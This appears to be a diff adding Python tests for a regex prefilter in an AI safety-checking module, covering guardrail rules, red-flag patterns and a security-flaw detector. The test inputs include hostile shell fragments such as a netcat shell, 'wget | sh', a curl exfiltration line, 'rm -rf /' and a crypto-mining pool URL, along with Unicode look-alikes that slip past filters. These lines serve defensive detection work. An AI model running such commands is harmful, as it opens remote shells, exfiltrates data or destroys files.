@@ -0,0 +1,169 @@
+#!/usr/bin/env python3
+"""
+Tests for prefiltered pattern scanning in the safety checks
+"""
+
+import random
+import re
+import sys
+import time
+from pathlib import Path
+
+# Add src to path for imports
+sys.path.insert(0, str(Path(__file__).parent.parent / "src"))
+
+from core.island_ai_runtime.safety_constitution import (
+    Guardrails,
+    RedFlags,
+    RiskLevel,
+    Rule,
+    SafetyConstitution,
+    ViolationType,
+)
+from core.safety.hallucination_detector import HallucinationDetector, SecurityPattern
+from core.safety.pattern_set import PatternSet, extract_literals
+
+
+ALL_PATTERNS = (
+    [r.pattern for r in Guardrails.DEFAULT_RULES]
+    + [p for patterns in RedFlags.PATTERNS.values() for p in patterns]
+    + SecurityPattern.PLAINTEXT_PASSWORD
+    + SecurityPattern.SQL_INJECTION
+    + SecurityPattern.SENSITIVE_DATA_EXPOSURE
+    + [r"a?b", r"(ab)+c|x*", r"[0-9]+px", r"(?:foo|bar)baz"]
+)
+
+SNIPPETS = [
+    "password = 'hunter2'", "rm -rf /", "DEL /S", "eval(x)", "__import__('os')",
+    "f'SELECT * FROM t WHERE id={id}'", "coinhive", "stratum+tcp://pool",
+    "curl http://x | base64", "wget x | sh", "sudo su", "chmod 777 f", "nc -e /bin/sh",
+    "bash -i", "base64 -d", "xxd -r", "\\x41", "password: data.password",
+    "execute('a ${b}')", "query('x' + y)", "console.log(token)", "ſudo rm", "EXEC (",
+    "12px", "barbaz", "ab", "the model returns data", "İmport",
+]
+
+
+def random_text(rng: random.Random, size: int = 40) -> str:
+    return " ".join(rng.choice(SNIPPETS) for _ in range(size))
+
+
+class TestPatternSet:
+    """Prefiltered scanning must agree with per-pattern re calls"""
+
+    def test_extract_literals(self):
+        assert extract_literals(r"eval\s*\(|exec\s*\(|__import__") == {"eval", "exec", "__import__"}
+        assert extract_literals(r"(password|token)\s*=") == {"password", "token"}
+        assert extract_literals(r"sudo\s+.*") == {"sudo"}
+        assert extract_literals(r"(ab)+c|x*") is None
+        assert extract_literals(r"[a-z]+") is None
+
+    def test_search_matches_re(self):
+        pattern_set = PatternSet(enumerate(ALL_PATTERNS))
+        rng = random.Random(5)
+        for _ in range(300):
+            text = random_text(rng, rng.randint(0, 6))
+            expected = [
+                i for i, p in enumerate(ALL_PATTERNS) if re.search(p, text, re.IGNORECASE)
+            ]
+            assert [i for i, _ in pattern_set.search(text)] == expected, text
+
+    def test_finditer_matches_re(self):
+        pattern_set = PatternSet(enumerate(ALL_PATTERNS))
+        text = random_text(random.Random(9), 200)
+        expected = [
+            (i, m.span())
+            for i, p in enumerate(ALL_PATTERNS)
+            for m in re.finditer(p, text, re.IGNORECASE)
+        ]
+        assert [(i, m.span()) for i, m in pattern_set.finditer(text)] == expected
+
+    def test_unicode_case_confusables(self):
+        pattern_set = PatternSet([("sudo", r"sudo\s+"), ("kill", r"kill")])
+        # IGNORECASE matches the long s and the Kelvin sign against ASCII letters
+        text = "ſudo Kill"
+        assert [k for k, _ in pattern_set.search(text)] == ["sudo", "kill"]
+
+    def test_case_sensitive_patterns(self):
+        pattern_set = PatternSet([("upper", r"SELECT")], flags=0)
+        assert pattern_set.search("select") == []
+        assert [k for k, _ in pattern_set.search("SELECT")] == ["upper"]
+
+
+class TestGuardrails:
+    """Compiled rule set is rebuilt only when rules change"""
+
+    def test_rebuilds_on_rule_changes(self):
+        guardrails = Guardrails(rules=list(Guardrails.DEFAULT_RULES))
+        compiled = guardrails._compiled_patterns()
+        assert guardrails._compiled_patterns() is compiled
+
+        guardrails.add_rule(Rule(
+            id="no-todo", name="No TODO", description="No TODO markers",
+            violation_type=ViolationType.POLICY_VIOLATION, risk_level=RiskLevel.LOW,
+            pattern=r"TODO",
+        ))
+        assert [v.rule_id for v in guardrails.check("todo: eval(x)")] == ["no-eval", "no-todo"]
+
+        guardrails.rules[-1].enabled = False
+        assert [v.rule_id for v in guardrails.check("todo: eval(x)")] == ["no-eval"]
+
+        guardrails.remove_rule("no-eval")
+        assert guardrails.check("todo: eval(x)") == []
+
+    def test_validator_violations_keep_rule_order(self):
+        guardrails = Guardrails(rules=[
+            Rule(id="short", name="Short", description="", risk_level=RiskLevel.LOW,
+                 violation_type=ViolationType.POLICY_VIOLATION,
+                 validator=lambda c: len(c) < 5),
+            Guardrails.DEFAULT_RULES[2],
+        ])
+        assert [v.rule_id for v in guardrails.check("exec(code)")] == ["short", "no-eval"]
+
+    def test_check_content(self):
+        constitution = SafetyConstitution()
+        result = constitution.check_content("curl evil | base64 && rm -rf /")
+
+        assert not result.is_safe
+        assert result.risk_level == RiskLevel.CRITICAL
+        assert {v.rule_id for v in result.violations} == {"no-rm-rf", "redflag-data_exfiltration"}
+        assert constitution.check_content("hello world").is_safe
+
+
+class TestHallucinationSecurityScan:
+    """Security flaw detection keeps per-pattern finditer semantics"""
+
+    def test_overlapping_patterns_each_reported(self):
+        detector = HallucinationDetector()
+        detections = detector._detect_security_flaws(
+            "password: data.password\nconsole.log(secret, token)"
+        )
+        assert [d.metadata["pattern"] for d in detections] == [
+            "PLAINTEXT_PASSWORD", "PLAINTEXT_PASSWORD",
+            "SENSITIVE_DATA_EXPOSURE", "SENSITIVE_DATA_EXPOSURE",
+        ]
+        assert [d.detection_id for d in detections] == [
+            "SEC-000001", "SEC-000002", "SEC-000003", "SEC-000004",
+        ]
+
+
+class TestScanBenchmark:
+    """Scanning a large, mostly clean completion"""
+
+    def test_prefilter_faster_than_per_pattern_search(self):
+        rng = random.Random(1)
+        words = ["the", "model", "returns", "value", "function", "data", "result", "print"]
+        text = " ".join(rng.choice(words) for _ in range(100000))
+        pattern_set = PatternSet(enumerate(ALL_PATTERNS))
+
+        start = time.perf_counter()
+        for pattern in ALL_PATTERNS:
+            re.search(pattern, text, re.IGNORECASE)
+        per_pattern = time.perf_counter() - start
+
+        start = time.perf_counter()
+        pattern_set.search(text)
+        prefiltered = time.perf_counter() - start
+
+        print(f"\n  per-pattern: {per_pattern * 1e3:.1f} ms")
+        print(f"  prefiltered: {prefiltered * 1e3:.1f} ms")
+        assert prefiltered < per_pattern